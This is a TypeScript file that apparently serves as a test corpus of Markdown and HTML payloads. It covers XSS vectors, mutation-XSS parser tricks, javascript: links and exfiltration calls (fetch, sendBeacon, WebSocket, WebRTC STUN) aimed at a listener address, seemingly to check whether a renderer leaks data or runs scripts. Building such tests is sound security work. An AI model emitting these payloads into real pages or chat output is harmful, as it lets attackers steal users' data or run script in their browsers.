/**
 * Texts of our own that would carry something out of a page, or run: each way there is to make a browser ask for an
 * address, in Markdown and in HTML. `u` is an address of somebody else's, `x` a script.
 */

/** The parts of a text that only who runs it knows. */
export interface Bait {
  /** An address of a listener. */
  readonly u: string;
  /** The same without its scheme. */
  readonly hostAndPath: string;
  /** Where the listener takes packets, as `127.0.0.1:1234`. */
  readonly packets: string;
  /** A script that says that it has run. */
  readonly x: string;
}

/** A text, by what it tries. */
export type Vector = readonly [what: string, text: (bait: Bait) => string];

const svg = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`;
const framed = (html: string) => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const markdownVectors: readonly Vector[] = [
  ['image', ({ u }) => `![a](${u})`],
  ['image with a title', ({ u }) => `![a](${u} "title")`],
  ['image in angle brackets', ({ u }) => `![a](<${u}>)`],
  ['image by reference', ({ u }) => `![a][i]\n\n[i]: ${u}`],
  ['image by a reference that is defined first', ({ u }) => `[i]: <${u}> 'title'\n\n![i]`],
  ['image in a link', ({ u }) => `[![a](${u})](${u})`],
  ['image in a heading', ({ u }) => `# ![a](${u})`],
  ['image in a table', ({ u }) => `| a |\n|---|\n| ![a](${u}) |`],
  ['image in a footnote', ({ u }) => `a[^1]\n\n[^1]: ![a](${u})`],
  ['image in a task', ({ u }) => `- [ ] ![a](${u})`],
  ['image over two lines', ({ u }) => `![a\nb](\n${u}\n)`],
  ['image whose alt is an image', ({ u }) => `![![a](${u})](${u})`],
  ['image with a size', ({ u }) => `![a](${u} =1x1)`],
  ['image without a scheme', ({ hostAndPath }) => `![a](//${hostAndPath})`],
  ['link', ({ u }) => `[a](${u})`],
  ['link by reference', ({ u }) => `[a][r] [r] [r][]\n\n[r]: ${u}`],
  ['link whose label is another', ({ u }) => `[https://good.example/](${u})`],
  ['link without a label', ({ u }) => `[](${u}) [\u200B](${u})`],
  ['link with a handler in its title', ({ u, x }) => `[a](${u} "\\" onmouseover=\\"${x}")`],
  ['link with a handler in its address', ({ u, x }) => `[a](${u}"onmouseover="${x})`],
  ['bare address', ({ u }) => `See ${u} now.`],
  ['address in angle brackets', ({ u }) => `<${u}>`],
  ['address of www', ({ hostAndPath }) => `www.${hostAndPath}`],
  ['link to a script', ({ x }) => `[a](javascript:${x})`],
  ['link to a script in angle brackets', ({ x }) => `[a](<javascript:${x}>)`],
  ['link to a script by reference', ({ x }) => `[a][j]\n\n[j]: javascript:${x}`],
  ['script in angle brackets', ({ x }) => `<javascript:${x}>`],
  ['image of a script', ({ x }) => `![a](javascript:${x})`],
  ['link to data', ({ x }) => `[a](data:text/html,<script>${x}</script>)`],
  ['image of data', ({ x }) => `![a](data:image/svg+xml,<svg onload="${x}"></svg>)`],
  ['link to a blob', ({ u, x }) => `[a](blob:${u}) [b](vbscript:${x}) [c](file:///etc/passwd) [d](filesystem:${u})`],
  ['link with a user name', ({ hostAndPath }) => `[a](http://good.example@${hostAndPath})`],
  ['link with a password', ({ hostAndPath }) => `[good.example](http://good.example:443@${hostAndPath})`],
  ['link with letters that look alike', () => '[apple.com](https://аpple.com/) ![a](https://аpple.com/)'],
  ['link to a place that leads on', ({ u }) => `[a](http://localhost/redirect?url=${u}) ![a](/redirect?to=${u})`],
  ['link with slashes the other way', ({ hostAndPath }) => `![a](http:\\\\${hostAndPath}) [a](/\\${hostAndPath})`],
  [
    'number for a host',
    ({ u }) => `![a](${u.replace('127.0.0.1', '2130706433')}) ![b](${u.replace('127.0.0.1', '0x7f.1')})`,
  ],
  ['wide digits for a host', ({ u }) => `![a](${u.replace('127.0.0.1', '１２７.０.０.１')})`],
  ['another family of addresses', ({ u }) => `![a](${u.replace('127.0.0.1', '[::ffff:127.0.0.1]')})`],
  ['name for a host', ({ u }) => `![a](${u.replace('127.0.0.1', 'secret-of-yours.localhost')})`],
  ['image in a quote in a list', ({ u }) => `- > ![a](${u})\n  >\n  > - ![b](${u})`],
  ['language of code', ({ u, x }) => `\`\`\`"><img src=${u} onerror=${x}>\ncode\n\`\`\``],
  ['code that ends itself', ({ u, x }) => `\`</code><img src=${u} onerror=${x}>\``],
  ['code of HTML', ({ u, x }) => `\`\`\`html\n<img src="${u}" onerror="${x}">\n\`\`\``],
  ['indented code', ({ u, x }) => `    <img src="${u}" onerror="${x}">`],
  [
    'diagram',
    ({ u, x }) => `\`\`\`mermaid\ngraph TD\nA[<img src='${u}' onerror='${x}'>] --> B\nclick A href "${u}"\n\`\`\``,
  ],
  ['chart', ({ u }) => `\`\`\`vega-lite\n{"data":{"url":"${u}"}}\n\`\`\``],
  ['formula with a link', ({ u }) => `$\\href{${u}}{a}$ $$\\url{${u}}$$`],
  ['formula with an image', ({ u }) => `$$\n\\includegraphics[height=1em]{${u}}\n$$`],
  ['formula with HTML', ({ u, x }) => `$\\htmlData{x=${x}}{a} \\htmlStyle{background:url(${u})}{b}$`],
  ['formula with text', ({ u, x }) => `$\\text{<img src="${u}" onerror="${x}">}$`],
  ['formula that defines', ({ u }) => `$\\def\\a{\\href{${u}}{x}}\\a\\gdef\\b{\\a}\\b$`],
  ['footnote by name', ({ u, x }) => `a[^<img src=${u} onerror=${x}>]\n\n[^<img src=${u} onerror=${x}>]: b`],
  ['definition by name', ({ u, x }) => `[<img src=${u} onerror=${x}>]\n\n[<img src=${u} onerror=${x}>]: ${u}`],
  ['task with HTML', ({ u, x }) => `- [x] <input type=image src="${u}" onfocus="${x}" autofocus>`],
  ['attributes behind an image', ({ u }) => `![a](${u}){.class style="background:url(${u})"}`],
  ['directive', ({ u }) => `::iframe[a]{src="${u}"}\n\n:::embed{url=${u}}\n:::`],
  ['front matter', ({ u }) => `---\nimage: ${u}\nredirect: ${u}\n---\n\ntext`],
  ['wiki link', ({ u }) => `![[${u}]] {{${u}}} <<${u}>>`],
];

const fetchingVectors: readonly Vector[] = [
  ['img', ({ u }) => `<img src="${u}">`],
  ['img without quotes', ({ u }) => `<img src=${u}>`],
  ['img with slashes', ({ u }) => `<img/src="${u}"/>`],
  ['img that is not closed', ({ u }) => `<img src="${u}" x`],
  ['img by srcset', ({ u }) => `<img srcset="${u} 1x, ${u} 2x" sizes="1px">`],
  ['img without a scheme', ({ hostAndPath }) => `<img src="//${hostAndPath}">`],
  ['img with slashes the other way', ({ hostAndPath }) => `<img src="\\\\${hostAndPath}">`],
  ['img by its old attributes', ({ u }) => `<img lowsrc="${u}" dynsrc="${u}" longdesc="${u}">`],
  ['image', ({ u }) => `<image src="${u}">`],
  ['picture', ({ u }) => `<picture><source srcset="${u}"><img></picture>`],
  ['input', ({ u }) => `<input type="image" src="${u}">`],
  ['body', ({ u }) => `<body background="${u}">`],
  ['table', ({ u }) => `<table background="${u}"><tr><td background="${u}">a</td></tr></table>`],
  ['video', ({ u }) => `<video src="${u}" autoplay preload="auto"></video>`],
  ['video by its poster', ({ u }) => `<video poster="${u}"></video>`],
  ['audio', ({ u }) => `<audio src="${u}" autoplay preload="auto"></audio>`],
  ['source', ({ u }) => `<video preload="auto"><source src="${u}" type="video/mp4"></video>`],
  ['track', ({ u }) => `<video><track src="${u}" default kind="subtitles"></video>`],
  ['iframe', ({ u }) => `<iframe src="${u}"></iframe>`],
  ['iframe of HTML', ({ u }) => `<iframe srcdoc="${framed(`<img src="${u}">`)}"></iframe>`],
  ['frame', ({ u }) => `<frameset><frame src="${u}"></frameset>`],
  ['object', ({ u }) => `<object data="${u}"></object>`],
  [
    'object by a parameter',
    ({ u }) => `<object type="text/html"><param name="src" value="${u}"><param name="movie" value="${u}"></object>`,
  ],
  ['embed', ({ u }) => `<embed src="${u}">`],
  ['applet', ({ u }) => `<applet code="${u}" archive="${u}"></applet>`],
  ['portal', ({ u }) => `<portal src="${u}"></portal><fencedframe src="${u}"></fencedframe>`],
  ['style sheet', ({ u }) => `<link rel="stylesheet" href="${u}">`],
  ['preload', ({ u }) => `<link rel="preload" as="image" href="${u}"><link rel="modulepreload" href="${u}">`],
  ['preconnect', ({ u }) => `<link rel="preconnect" href="${u}"><link rel="dns-prefetch" href="${u}">`],
  ['prefetch', ({ u }) => `<link rel="prefetch" href="${u}"><link rel="prerender" href="${u}">`],
  [
    'icon',
    ({ u }) =>
      `<link rel="icon" href="${u}"><link rel="apple-touch-icon" href="${u}"><link rel="manifest" href="${u}">`,
  ],
  ['import of HTML', ({ u }) => `<link rel="import" href="${u}"><link rel="alternate" href="${u}">`],
  ['preload by imagesrcset', ({ u }) => `<link rel="preload" as="image" imagesrcset="${u}">`],
  [
    'speculation',
    ({ u }) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${u}"]}]}</script>`,
  ],
  ['import in a style', ({ u }) => `<style>@import "${u}";</style>`],
  [
    'url in a style',
    ({ u }) => `<style>* { background: url("${u}"); list-style: url(${u}); cursor: url(${u}), auto }</style>`,
  ],
  ['font in a style', ({ u }) => `<style>@font-face { font-family: a; src: url("${u}") } * { font-family: a }</style>`],
  [
    'content in a style',
    ({ u }) => `<style>body::before { content: url("${u}"); border-image: image-set("${u}" 1x) }</style>`,
  ],
  ['letters of a field', ({ u }) => `<style>input[value^="a"] { background: url("${u}") }</style><input value="abc">`],
  ['style attribute', ({ u }) => `<p style="background: url('${u}')">a</p>`],
  ['style attribute of a list', ({ u }) => `<ul style="list-style-image: url(${u})"><li>a</li></ul>`],
  [
    'style attribute that covers the page',
    ({ u }) => `<a href="${u}" style="position:fixed;inset:0;z-index:9999">a</a>`,
  ],
  ['escapes in a style', ({ u }) => `<p style="background: \\75\\72\\6c('${u}')">a</p>`],
  ['base', ({ u }) => `<base href="${u}"><img src="a.png">`],
  ['SVG image', ({ u }) => svg(`<image href="${u}" width="9" height="9"/>`)],
  [
    'SVG image by xlink',
    ({ u }) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${u}" width="9" height="9"/></svg>`,
  ],
  ['SVG use', ({ u }) => svg(`<use href="${u}#a"/>`)],
  [
    'SVG filter',
    ({ u }) => svg(`<filter id="f"><feImage href="${u}"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
  ],
  ['SVG pattern', ({ u }) => svg(`<rect fill="url('${u}#a')" mask="url('${u}#b')" width="9" height="9"/>`)],
  ['SVG style', ({ u }) => svg(`<style>@import "${u}";</style>`)],
  [
    'SVG with HTML in it',
    ({ u }) => svg(`<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${u}"/></foreignObject>`),
  ],
  ['SVG script', ({ u }) => svg(`<script href="${u}"></script>`)],
  [
    'MathML link',
    ({ u }) =>
      `<math href="${u}"><mi xlink:href="${u}">a</mi><maction actiontype="statusline" xlink:href="${u}">b</maction></math>`,
  ],
  [
    'MathML with HTML in it',
    ({ u }) =>
      `<math><mtext><img src="${u}"></mtext><annotation-xml encoding="text/html"><img src="${u}"></annotation-xml></math>`,
  ],
  ['XML style sheet', ({ u }) => `<?xml-stylesheet href="${u}" type="text/css"?>`],
  ['document type', ({ u }) => `<!DOCTYPE html PUBLIC "a" "${u}" [<!ENTITY x SYSTEM "${u}">]>&x;`],
  ['template', ({ u }) => `<template shadowrootmode="open"><img src="${u}"></template>`],
  ['noscript', ({ u }) => `<noscript><img src="${u}"></noscript><noembed><img src="${u}"></noembed>`],
  ['comment that ends itself', ({ u }) => `<!--><img src="${u}">-->`],
  ['text area that ends itself', ({ u }) => `<textarea><title></textarea><img src="${u}">`],
  ['title that ends itself', ({ u }) => `<title><a title="</title><img src=${u}>"></title>`],
];

const movingVectors: readonly Vector[] = [
  ['refresh', ({ u }) => `<meta http-equiv="refresh" content="0;url=${u}">`],
  ['refresh without a number', ({ u }) => `<meta http-equiv="refresh" content=";URL='${u}'">`],
  [
    'policy that reports',
    ({ u }) => `<meta http-equiv="Content-Security-Policy-Report-Only" content="img-src 'none'; report-uri ${u}">`,
  ],
  ['link', ({ u }) => `<a href="${u}" ping="${u}">a</a>`],
  ['link with a download', ({ u }) => `<a href="${u}" download autofocus>a</a>`],
  [
    'link of SVG',
    ({ u, x }) => svg(`<a href="javascript:${x}"><text y="9">a</text></a><a href="${u}"><text>b</text></a>`),
  ],
  ['area', ({ u }) => `<map name="m"><area href="${u}" ping="${u}" shape="default"></map><img usemap="#m">`],
  ['form', ({ u }) => `<form action="${u}"><input name="a" value="secret"><button autofocus>go</button></form>`],
  [
    'button of a form',
    ({ u }) => `<form><button formaction="${u}">go</button><input type="submit" formaction="${u}"></form>`,
  ],
  ['form of a dialog', ({ u }) => `<dialog open><form method="get" action="${u}"><button>OK</button></form></dialog>`],
  ['search', ({ u }) => `<isindex action="${u}" type="image" src="${u}">`],
  ['quotation', ({ u }) => `<blockquote cite="${u}">a</blockquote><q cite="${u}">b</q><del cite="${u}">c</del>`],
];

const runningVectors: readonly Vector[] = [
  ['script', ({ x }) => `<script>${x}</script>`],
  ['script of another site', ({ u }) => `<script src="${u}"></script><script type="module" src="${u}"></script>`],
  ['img that fails', ({ x }) => `<img src="x:" onerror="${x}">`],
  ['img that loads', ({ x }) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${x}">`],
  ['SVG that loads', ({ x }) => `<svg onload="${x}"></svg>`],
  ['SVG that moves', ({ x }) => `<svg><animate onbegin="${x}" attributeName="x" dur="1s"/></svg>`],
  [
    'SVG that sets a link',
    ({ x }) => `<svg><a><animate attributeName="href" values="javascript:${x}"/><text y="9">a</text></a></svg>`,
  ],
  ['details', ({ x }) => `<details open ontoggle="${x}">a</details>`],
  ['field with the focus', ({ x }) => `<input autofocus onfocus="${x}">`],
  ['element with the focus', ({ x }) => `<p tabindex="0" autofocus onfocus="${x}">a</p>`],
  [
    'style that moves',
    ({ x }) => `<style>@keyframes k {}</style><p style="animation: k" onanimationstart="${x}">a</p>`,
  ],
  ['marquee', ({ x }) => `<marquee onstart="${x}">a</marquee>`],
  ['media that fails', ({ x }) => `<video><source onerror="${x}"></video><audio src="x:" onerror="${x}"></audio>`],
  ['frame that loads', ({ x }) => `<iframe onload="${x}"></iframe>`],
  ['frame of a script', ({ x }) => `<iframe src="javascript:${x.replace('pwn', 'parent.pwn')}"></iframe>`],
  [
    'frame of HTML with a script',
    ({ x }) => `<iframe srcdoc="${framed(`<script>${x.replace('pwn', 'parent.pwn')}</script>`)}"></iframe>`,
  ],
  ['object of a script', ({ x }) => `<object data="javascript:${x}"></object><embed src="javascript:${x}">`],
  ['hover', ({ x }) => `<p onmouseover="${x}" onpointerenter="${x}" onclick="${x}">a</p>`],
  [
    'scroll',
    ({ x }) =>
      `<div onscroll="${x}" onscrollend="${x}" style="overflow:auto;height:9px"><br><br><br><a id="a" autofocus href="#a">a</a></div>`,
  ],
  [
    'popover',
    ({ x }) => `<button popovertarget="p" autofocus>a</button><div popover id="p" onbeforetoggle="${x}">b</div>`,
  ],
  [
    'hidden until found',
    ({ x }) =>
      `<p hidden="until-found" onbeforematch="${x}" oncontentvisibilityautostatechange="${x}" style="content-visibility:auto">a</p>`,
  ],
  [
    'namespace that changes',
    ({ x }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${x}&gt;">`,
  ],
  ['mutation by noscript', ({ x }) => `<noscript><p title="</noscript><img src=x: onerror=${x}>">`],
  ['mutation by SVG', ({ x }) => `<svg></p><style><a id="</style><img src=x: onerror=${x}>">`],
  ['mutation by a form', ({ x }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${x}>`],
  ['section of data', ({ x }) => `<svg><![CDATA[><img src=x: onerror=${x}>]]></svg>`],
  ['attribute without an end', ({ x }) => `<img src="x:" alt="\n\n"onerror="${x}">`],
  [
    'names that hide others',
    ({ x }) =>
      `<form id="document" name="body"><input name="attributes"><img name="getElementById" src="x:" onerror="${x}"></form>`,
  ],
  [
    'custom element',
    ({ x }) => `<x-a onclick="${x}" is="img"></x-a><local-llm-chat model="javascript:${x}" autoload></local-llm-chat>`,
  ],
  ['fetch', ({ u, x }) => `<img src="x:" onerror="${x};fetch('${u}')">`],
  ['beacon', ({ u, x }) => `<img src="x:" onerror="${x};navigator.sendBeacon('${u}')">`],
  ['socket', ({ hostAndPath, x }) => `<img src="x:" onerror="${x};new WebSocket('ws://${hostAndPath}')">`],
  ['stream of events', ({ u, x }) => `<img src="x:" onerror="${x};new EventSource('${u}')">`],
  ['worker', ({ u, x }) => `<img src="x:" onerror="${x};import('${u}')">`],
  [
    'packets',
    ({ packets, x }) =>
      `<img src="x:" onerror="${x};(p=new RTCPeerConnection({iceServers:[{urls:'stun:${packets}'}]})).createDataChannel('');p.createOffer().then((o)=>p.setLocalDescription(o))">`,
  ],
  ['navigation', ({ u, x }) => `<img src="x:" onerror="${x};location='${u}'">`],
  ['window', ({ u, x }) => `<img src="x:" onerror="${x};open('${u}')">`],
  ['dialog', ({ x }) => `<img src="x:" onerror="${x};alert(1)">`],
];

/** All of them. */
export const exfiltrationVectors: readonly Vector[] = [
  ...markdownVectors,
  ...fetchingVectors,
  ...movingVectors,
  ...runningVectors,
];
